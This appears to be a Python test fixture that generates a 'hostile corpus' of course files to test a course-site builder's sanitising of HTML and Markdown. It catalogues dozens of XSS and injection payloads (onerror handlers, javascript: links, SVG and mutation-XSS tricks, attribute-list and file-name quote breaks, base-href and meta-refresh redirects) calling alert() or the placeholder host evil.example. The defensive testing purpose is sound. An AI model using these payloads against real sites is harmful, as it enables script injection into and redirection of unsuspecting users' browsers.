"""The hostile corpus: courses an attacker could write (a contributor's pull request, a copied-in handout, a
compromised author account), one case a row, and the courses built from them.

Every case names itself in its payload: a script that runs calls ``alert("<case>")``, and a request it makes goes
to ``https://evil.example/<case>``, so a finding names the case that caused it. Many cases share one course
(blocks of a few modules, one module per case of a module's own fields, course fields spread over a few courses)
to keep the number of builds small. Every course also holds trainer-only content marked ``TRAINERONLY``, which
the participant view must never carry.
"""

from __future__ import annotations

import copy
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

TRAINER_MARKER = "TRAINERONLY"
EVIL = "https://evil.example/"
BLOCKS_PER_MODULE = 16


def js(name: str) -> str:
    return f"alert('{name}')"


@dataclass(frozen=True)
class Case:
    """One attack: a block to add, or fields of a module or of the course, and files to lay under content/."""

    name: str
    block: dict[str, Any] | None = None
    module: dict[str, Any] | None = None  # fields of a module of its own (it gets one text block)
    course: dict[str, Any] | None = None  # fields of course.yml (`references` are added to the course's)
    files: dict[str, bytes] = field(default_factory=dict)
    alone: bool = False  # the block gets a module of its own: what it breaks (the page's base address) breaks no other case


def text(name: str, body: str) -> Case:
    """Markdown in a text block's body."""
    return Case(name, block={"type": "text", "title": f"Case {name}", "body": body})


def html_cases() -> list[Case]:
    """Raw HTML and Markdown in a Markdown field: every way in the issue names, and more."""
    raw = {
        "script-tag": "<script>{js}</script>",
        "img-onerror": '<img src=x onerror="{js}">',
        "gt-in-quoted-attribute": '<img alt=">" src=x onerror="{js}">',
        "glued-handler": '<img src="x"onerror="{js}">',
        "slash-glued-handler": "<img/src=x/onerror={js}>",
        "uppercase-tags": '<IMG SRC=x ONERROR="{js}">',
        "entity-encoded-handler": '<img src=x onerror="&#97;&#108;ert(\'{name}\')">',
        "svg-onload": '<svg onload="{js}"></svg>',
        "svg-animate-href": '<svg><a><animate attributeName="href" values="javascript:{js}"/><text y="20">x</text></a></svg>',
        "svg-link": '<svg><a href="javascript:{js}"><text y="20">svg link</text></a></svg>',
        "svg-xlink": '<svg><a xlink:href="javascript:{js}"><text y="20">xlink</text></a></svg>',
        "svg-script": "<svg><script>{js}</script></svg>",
        "svg-foreign-object": '<svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>',
        "math-href": '<math><mtext><a href="javascript:{js}">math link</a></mtext></math>',
        "math-style-mxss": '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
        "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
        "comment-mxss": '<!--<img src="--><img src=x onerror="{js}//">',
        "iframe-srcdoc": '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
        "iframe-javascript": '<iframe src="javascript:{js}"></iframe>',
        "object-data": '<object data="{evil}"></object>',
        "embed-src": '<embed src="{evil}">',
        "form-action": '<form action="javascript:{js}"><button>send</button></form>',
        "formaction": '<form><button formaction="javascript:{js}">send</button></form>',
        "input-autofocus": '<input autofocus onfocus="{js}">',
        "details-ontoggle": '<details open ontoggle="{js}"><summary>s</summary>x</details>',
        "animationstart": '<style>@keyframes k{{from{{left:0}}to{{left:1px}}}}</style><div style="animation:k 1s" onanimationstart="{js}">a</div>',
        "style-import": "<style>@import '{evil}';</style>",
        "css-url-javascript": '<div style="background-image:url(javascript:{js})">css</div>',
        "css-url-remote": '<div style="background-image:url({evil})">css</div>',
        "base-href": '<base href="{evil}">',
        "meta-refresh": '<meta http-equiv="refresh" content="0;url={evil}">',
        "link-stylesheet": '<link rel="stylesheet" href="{evil}">',
        "img-remote": '<img src="{evil}" alt="pixel">',
        "img-srcset": '<img src="x.png" srcset="{evil} 1x" alt="pixel">',
        "img-backslash-host": '<img src="/\\evil.example/{name}" alt="pixel">',
        "video-poster": '<video poster="{evil}"></video>',
        "video-onerror": '<video src="x" onerror="{js}"></video>',
        "audio-onerror": '<audio src="x" onerror="{js}"></audio>',
        "marquee-onstart": '<marquee onstart="{js}">m</marquee>',
        "body-onload": '<body onload="{js}">',
        "input-image": '<input type="image" src="x" onerror="{js}">',
        "link-ping": '<a href="https://example.org/" ping="{evil}">ping</a>',
        "tabnabbing": '<a href="https://example.org/{name}" target="_blank">new tab</a>',
        "a-javascript": '<a href="javascript:{js}">a</a>',
        "a-javascript-mixed-case": '<a href="JaVaScRiPt:{js}">a</a>',
        "a-javascript-leading-space": '<a href=" javascript:{js}">a</a>',
        "a-entity-colon": '<a href="javascript&colon;{js}">a</a>',
        "a-entity-scheme": '<a href="&#106;avascript:{js}">a</a>',
        "a-newline-split": '<a href="java\nscript:{js}">a</a>',
        "a-data-url": '<a href="data:text/html,<script>{js}</script>">a</a>',
        "img-data-svg": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{js}%22/>">',
        "id-clobbers-material": '<div id="__config">{{"base":"{evil}"}}</div>',
        "forged-play-button": '<button type="button" class="course-video__play" data-embed-src="javascript:{js}">play</button>',
    }
    markdown = {
        "md-link-javascript": "[a](javascript:{js})",
        "md-link-tab-entity": "[a](java&Tab;script:{js})",
        "md-link-hex-tab": "[a](jav&#x09;ascript:{js})",
        "md-reference-definition": "[a][r]\n\n[r]: javascript:{js}",
        "md-reference-entity": "[a][r]\n\n[r]: jav&#x09;ascript:{js}",
        "md-autolink": "<javascript:{js}>",
        "md-image-protocol-relative": "![x](//evil.example/{name})",
        "attr-list-paragraph": 'Text.\n{{: onclick="{js}" }}',
        "attr-list-heading": '## Heading {{: onmouseover="{js}" }}',
        "attr-list-link": '[a](https://example.org/){{: onmouseover="{js}" }}',
        "attr-list-image": '![x](x.png){{ onerror="{js}" }}',
        "attr-list-href": '[a](https://example.org/){{: href="javascript:{js}" }}',
        "attr-list-style": 'Text.\n{{: style="background-image:url({evil})" }}',
        "attr-list-in-md-div": '<div markdown>\n\nText.\n{{: onclick="{js}" }}\n\n</div>',
        # the image names the case in its alt text: these places take no quotes of their own
        "attr-list-toc-label": '## Heading {{: data-toc-label="<img src=x alt={name} onerror=alert(this.alt)>" }}',
        "admonition-title": '!!! note "<img src=x alt={name} onerror=alert(this.alt)>"\n    body',
        "details-summary": '??? note "<img src=x alt={name} onerror=alert(this.alt)>"\n    body',
        "heading-html": "## <img src=x alt={name} onerror=alert(this.alt)> heading",
        "table-cell": "| a |\n| --- |\n| <img src=x alt={name} onerror=alert(this.alt)> |",
    }
    # Cases that break the page for what follows them (its base address, its navigation, unclosed elements that
    # swallow the rest) each get a page of their own.
    alone = {"base-href", "meta-refresh", "id-clobbers-material", "body-onload", "math-style-mxss", "noscript-mxss", "comment-mxss"}
    cases = []
    for name, template in {**raw, **markdown}.items():
        case = text(name, template.format(js=js(name), evil=EVIL + name, name=name))
        cases.append(Case(case.name, block=case.block, alone=name in alone))
    return cases


def field_cases() -> list[Case]:
    """Every other field: plain text where it lands, Markdown where it is not a text block's body, links, files."""
    img = '<img src="x" onerror="{js}">'

    def payload(name: str) -> str:
        return img.format(js=js(name))

    cases = [
        # plain text, everywhere it lands
        Case("block-title", block={"type": "text", "title": payload("block-title"), "body": "x"}),
        Case("block-title-newline", block={"type": "text", "title": "T\n\n" + payload("block-title-newline"), "body": "x"}),
        Case("module-title-closes-title", module={"title": "</title><script>" + js("module-title-closes-title") + "</script>"}),
        Case("module-title-attribute", module={"title": '"><img src=x onerror=' + js("module-title-attribute") + ">"}),
        Case("course-title-quote", course={"title": 'Course" onmouseover="' + js("course-title-quote") + '" x="'}),
        Case("course-title-closes-title", course={"title": "</title><script>" + js("course-title-closes-title") + "</script>"}),
        Case("course-subtitle", course={"subtitle": payload("course-subtitle")}),
        Case("card-title", block={"type": "cards", "items": [{"title": payload("card-title")}]}),
        Case("card-label-markdown", block={"type": "cards", "items": [{"title": "t", "label": f"[x](javascript:{js('card-label-markdown')})"}]}),
        Case(
            "card-label-attr-list",
            block={"type": "cards", "items": [{"title": "t", "label": f'x</span> [y](https://example.org/){{: onmouseover="{js("card-label-attr-list")}" }}'}]},
        ),
        Case("compare-label", block={"type": "compare", "items": [{"label": payload("compare-label"), "body": "a"}, {"label": "b", "body": "b"}]}),
        Case("image-alt", block={"type": "image", "src": "media/dot.svg", "alt": f'x" onerror="{js("image-alt")}'}),
        Case("reading-pages", block={"type": "reading", "source": "s", "pages": payload("reading-pages")}),
        Case("video-title", block={"type": "video", "youtube": "VctaUNJpT6U", "title": f'"><img src=x onerror={js("video-title")}>'}),
        # links
        Case("reading-url-handler", block={"type": "reading", "source": "s", "url": f'https://example.org/){{onmouseover="{js("reading-url-handler")}"}}'}),
        Case("reading-url-javascript", block={"type": "reading", "source": "s", "url": f"javascript:{js('reading-url-javascript')}"}),
        Case("reading-url-quote", block={"type": "reading", "source": "s", "url": f'https://example.org/"><img src=x onerror={js("reading-url-quote")}>'}),
        Case("reference-url-javascript", course={"references": [{"key": "ref-js", "citation": "c", "url": f"javascript:{js('reference-url-javascript')}"}]}),
        Case("reference-key", course={"references": [{"key": f'"><img src=x onerror={js("reference-key")}>', "citation": "c"}]}),
        # file names
        Case(
            "media-name-attr-list",
            block={"type": "image", "src": "media/x.png){onerror=" + js("media-name-attr-list") + "}", "alt": "a"},
            files={"media/x.png){onerror=" + js("media-name-attr-list") + "}": b"not an image"},
        ),
        Case(
            "media-name-quote",
            block={"type": "image", "src": 'media/q.png" onerror="' + js("media-name-quote"), "alt": "a"},
            files={'media/q.png" onerror="' + js("media-name-quote"): b"not an image"},
        ),
        Case(
            "video-file-names",
            block={
                "type": "video",
                "title": "v",
                "src": 'media/v.mp4"><img src=x onerror=' + js("video-file-names") + ">",
                "captions": 'media/c.vtt" onerror="' + js("video-file-names") + '" x=".vtt',
            },
            files={
                'media/v.mp4"><img src=x onerror=' + js("video-file-names") + ">": b"not a video",
                'media/c.vtt" onerror="' + js("video-file-names") + '" x=".vtt': b"WEBVTT\n",
            },
        ),
        # Markdown fields other than a text block's body
        Case("course-description", course={"description": payload("course-description")}),
        Case("course-license", course={"license": payload("course-license")}),
        Case("course-audience", course={"audience": [payload("course-audience")]}),
        Case("course-authors", course={"authors": [payload("course-authors")]}),
        Case("course-trainer-intentions", course={"trainer_intentions": [payload("course-trainer-intentions")]}),
        Case("reference-citation", course={"references": [{"key": "ref-c", "citation": payload("reference-citation")}]}),
        Case("module-summary", module={"title": "Summary", "summary": payload("module-summary")}),
        Case("module-key-points", module={"title": "Key points", "key_points": [payload("module-key-points")]}),
        Case("module-facilitator-notes", module={"title": "Notes", "facilitator_notes": payload("module-facilitator-notes")}),
        Case("module-trainer-intentions", module={"title": "Intentions", "trainer_intentions": [payload("module-trainer-intentions")]}),
        Case("think-prompt", block={"type": "think_and_share", "prompt": payload("think-prompt")}),
        Case("reflective-prompts", block={"type": "reflective_activity", "intro": "i", "prompts": [payload("reflective-prompts")]}),
        Case("discussion-questions", block={"type": "group_discussion", "questions": [payload("discussion-questions")]}),
        Case("block-facilitator-notes", block={"type": "text", "body": "b", "facilitator_notes": payload("block-facilitator-notes")}),
        Case("quote-attribution", block={"type": "quote", "text": "q", "attribution": payload("quote-attribution")}),
        Case("callout-body", block={"type": "callout", "kind": "tip", "body": payload("callout-body")}),
        Case("card-body", block={"type": "cards", "items": [{"title": "t", "body": payload("card-body")}]}),
        Case("image-caption", block={"type": "image", "src": "media/dot.svg", "alt": "a", "caption": payload("image-caption")}),
        Case("reading-note", block={"type": "reading", "source": payload("reading-note"), "note": payload("reading-note")}),
        Case("video-transcript", block={"type": "video", "youtube": "VctaUNJpT6U", "title": "v", "transcript": payload("video-transcript")}),
        Case(
            "transcript-file",
            block={"type": "video", "youtube": "VctaUNJpT6U", "title": "v", "transcript": "media/transcript.md"},
            files={"media/transcript.md": payload("transcript-file").encode()},
        ),
        Case("trainer-only-block", block={"type": "text", "audience": "trainer", "title": "Hidden", "body": payload("trainer-only-block")}),
    ]
    return cases


CASES: list[Case] = html_cases() + field_cases()

# Fields a course has once: cases that set the same one go to different courses.
_SINGLE = ("title", "subtitle", "description", "license")

DOT_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>\n'


def _base_course() -> tuple[dict[str, Any], list[tuple[str, dict[str, Any]]]]:
    """A small good course, trainer-only content marked: course.yml and its first module."""
    course: dict[str, Any] = {
        "title": "Hostile course",
        "trainer_intentions": [f"{TRAINER_MARKER} course intention"],
        "references": [{"key": "base2020", "citation": "Base, A. (2020). *A work*.", "url": "https://example.org/work"}],
    }
    module = {
        "title": "Start",
        "trainer_intentions": [f"{TRAINER_MARKER} module intention"],
        "facilitator_notes": f"{TRAINER_MARKER} module notes",
        "blocks": [
            {"type": "text", "body": "Welcome.", "cite": ["base2020"], "facilitator_notes": f"{TRAINER_MARKER} block notes"},
            {"type": "text", "audience": "trainer", "title": f"{TRAINER_MARKER} title", "body": f"{TRAINER_MARKER} body"},
            {"type": "think_and_share", "prompt": "What do you notice?", "duration": 5, "facilitator_notes": f"{TRAINER_MARKER} ts notes"},
        ],
    }
    return course, [("start", module)]


def write_course(root: Path, cases: list[Case]) -> Path:
    """Write a course holding ``cases`` to ``root/content``; returns the content folder."""
    content = root / "content"
    if content.exists():
        shutil.rmtree(content)
    (content / "modules").mkdir(parents=True)
    (content / "media").mkdir()
    (content / "media" / "dot.svg").write_bytes(DOT_SVG)
    course, modules = _base_course()
    blocks: list[dict[str, Any]] = []
    for case in cases:
        for name, data in case.files.items():
            (content / name).parent.mkdir(parents=True, exist_ok=True)
            (content / name).write_bytes(data)
        if case.course:
            for key, value in copy.deepcopy(case.course).items():
                if key == "references":
                    course["references"] += value
                else:
                    course[key] = value
        if case.module:
            module = {**copy.deepcopy(case.module), "blocks": [{"type": "text", "body": f"Module of {case.name}."}]}
            modules.append((case.name, module))
        if case.block and case.alone:
            modules.append((case.name, {"title": f"Case {case.name}", "blocks": [copy.deepcopy(case.block)]}))
        elif case.block:
            blocks.append(copy.deepcopy(case.block))
    for start in range(0, len(blocks), BLOCKS_PER_MODULE):
        modules.append((f"blocks-{start // BLOCKS_PER_MODULE + 1}", {"title": f"Blocks {start + 1}", "blocks": blocks[start : start + BLOCKS_PER_MODULE]}))
    (content / "course.yml").write_text(yaml.safe_dump(course, allow_unicode=True, sort_keys=False), encoding="utf-8")
    for number, (slug, module) in enumerate(modules, start=1):
        path = content / "modules" / f"{number:02d}-{slug}.yml"
        path.write_text(yaml.safe_dump(module, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return content


def groups(cases: list[Case]) -> list[list[Case]]:
    """The cases spread over as few courses as their course fields allow, the rest shared out evenly."""
    singles = [c for c in cases if c.course and any(k in _SINGLE for k in c.course)]
    rest = [c for c in cases if c not in singles]
    courses: list[list[Case]] = []
    for case in singles:
        keys = {k for k in case.course or {} if k in _SINGLE}
        home = next((g for g in courses if not any(keys & set(o.course or {}) for o in g)), None)
        if home is None:
            courses.append(home := [])
        home.append(case)
    if not courses:
        courses.append([])
    for i, case in enumerate(rest):
        courses[i % len(courses)].append(case)
    return courses
